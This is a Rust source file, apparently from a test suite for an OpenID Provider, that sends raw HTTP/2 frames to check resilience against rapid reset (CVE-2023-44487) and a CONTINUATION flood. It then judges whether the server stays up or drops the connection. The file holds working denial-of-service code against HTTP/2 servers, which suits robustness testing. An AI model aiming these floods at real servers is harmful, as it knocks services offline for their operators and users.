//! HTTP/2 abuse (RFC 9113) in raw frames: rapid reset (CVE-2023-44487:
//! streams opened and cancelled at once, over and over) and the
//! CONTINUATION flood (a header block that never ends). The OP must stay
//! up, bound what it holds, and end an abusive connection.

use super::wire;
use crate::scenario::context::Ctx;
use crate::stats::Failure;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA_HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
/// RFC 9113 §7: CANCEL.
const CANCEL: u32 = 0x8;

/// RFC 9113 §4.1: a frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// RFC 7541 §5.1: an integer with an `n`-bit prefix (the prefix bits' high part in `first`).
fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
}

/// RFC 7541 §6.2.2: a literal field without indexing, new name, no Huffman.
fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0x00);
    hpack_int(out, 0, 7, name.len());
    out.extend_from_slice(name.as_bytes());
    hpack_int(out, 0, 7, value.len());
    out.extend_from_slice(value.as_bytes());
}

fn request_block(authority: &str) -> Vec<u8> {
    let mut block = Vec::new();
    literal(&mut block, ":method", "GET");
    literal(&mut block, ":scheme", "https");
    literal(&mut block, ":path", "/.well-known/openid-configuration");
    literal(&mut block, ":authority", authority);
    block
}

/// How the OP's side of an HTTP/2 connection ended up.
#[derive(Debug, PartialEq, Eq)]
enum Seen {
    /// It answered our PING: still serving.
    Alive,
    /// GOAWAY, or the connection ended.
    Ended,
    /// A response with `:status 500` (static table index 14).
    InternalError,
    Silent,
}

/// Reads frames until a PING ACK, a GOAWAY, the end, or `wait`.
async fn watch<S: tokio::io::AsyncRead + Unpin>(stream: &mut S, wait: Duration) -> Seen {
    let read = async {
        let mut header = [0u8; 9];
        loop {
            if stream.read_exact(&mut header).await.is_err() {
                return Seen::Ended;
            }
            let len = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
            let mut payload = vec![0u8; len.min(1 << 20)];
            if stream.read_exact(&mut payload).await.is_err() {
                return Seen::Ended;
            }
            match (header[3], header[4]) {
                (GOAWAY, _) => return Seen::Ended,
                (PING, flags) if flags & ACK != 0 => return Seen::Alive,
                (DATA_HEADERS, _) if payload.first() == Some(&0x8e) => return Seen::InternalError,
                _ => {}
            }
        }
    };
    tokio::time::timeout(wait, read).await.unwrap_or(Seen::Silent)
}

fn verdict(step: &'static str, seen: Seen) -> Result<(), Failure> {
    match seen {
        Seen::Alive | Seen::Ended => Ok(()),
        Seen::InternalError => Err(Failure::new(step, "5xx 500")),
        Seen::Silent => Err(Failure::new(step, "silent: no PING ACK and no GOAWAY in 10 s")),
    }
}

/// 1,000 streams, each opened (HEADERS with END_STREAM) and cancelled
/// (RST_STREAM) at once, in one burst; then a PING.
pub async fn rapid_reset(ctx: &Ctx) -> Result<(), Failure> {
    let step = "h2_rapid_reset";
    let kit = ctx.hostile.as_ref().ok_or_else(|| Failure::new(step, "no kit"))?;
    let mut stream = wire::connect(ctx, &ctx.token, kit.h2.clone())
        .await
        .map_err(|f| Failure::new(step, f.kind))?;
    let block = request_block(&ctx.token.authority);
    let mut burst = PREFACE.to_vec();
    burst.extend(frame(SETTINGS, 0, 0, &[]));
    for i in 0..1000u32 {
        let id = 2 * i + 1;
        burst.extend(frame(DATA_HEADERS, END_STREAM | END_HEADERS, id, &block));
        burst.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
    }
    burst.extend(frame(PING, 0, 0, b"hostile!"));
    if stream.write_all(&burst).await.is_err() {
        return Ok(());
    }
    verdict(step, watch(&mut stream, Duration::from_secs(10)).await)
}

/// A HEADERS frame without END_HEADERS and then CONTINUATION frames of
/// 16 KiB each, up to 4 MiB: the OP must end the connection well before.
pub async fn continuation_flood(ctx: &Ctx) -> Result<(), Failure> {
    let step = "h2_continuation_flood";
    let kit = ctx.hostile.as_ref().ok_or_else(|| Failure::new(step, "no kit"))?;
    let mut stream = wire::connect(ctx, &ctx.token, kit.h2.clone())
        .await
        .map_err(|f| Failure::new(step, f.kind))?;
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &[]));
    opening.extend(frame(
        DATA_HEADERS,
        END_STREAM,
        1,
        &request_block(&ctx.token.authority),
    ));
    if stream.write_all(&opening).await.is_err() {
        return Ok(());
    }
    let mut fragment = Vec::new();
    while fragment.len() < 16 * 1024 - 1100 {
        literal(&mut fragment, "x-continued", &"c".repeat(1000));
    }
    let continuation = frame(CONTINUATION, 0, 1, &fragment);
    for _ in 0..(4 * 1024 * 1024 / continuation.len()) {
        let written = tokio::time::timeout(Duration::from_secs(5), stream.write_all(&continuation)).await;
        match written {
            Ok(Ok(())) => {}
            // It stopped reading (a full window) or closed: it is not taking the flood.
            Ok(Err(_)) | Err(_) => return Ok(()),
        }
    }
    // All 4 MiB went out; whether the OP buffered them or dropped the
    // connection is in what it says now.
    match watch(&mut stream, Duration::from_secs(5)).await {
        Seen::Ended => Ok(()),
        Seen::InternalError => Err(Failure::new(step, "5xx 500")),
        Seen::Alive | Seen::Silent => Err(Failure::new(
            step,
            "unbounded: 4 MiB of CONTINUATION taken without a GOAWAY",
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_hpack_integers_are_encoded_as_the_rfcs_show() {
        // RFC 9113 §4.1: 24-bit length, type, flags, 31-bit stream id.
        assert_eq!(frame(PING, ACK, 0, b"12345678")[..9], [0, 0, 8, 6, 1, 0, 0, 0, 0]);
        // RFC 7541 C.1.1 and C.1.2: 10 in a 5-bit prefix, 1337 in a 5-bit prefix.
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 10);
        assert_eq!(out, [0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, [0x1f, 0x9a, 0x0a]);
    }
}
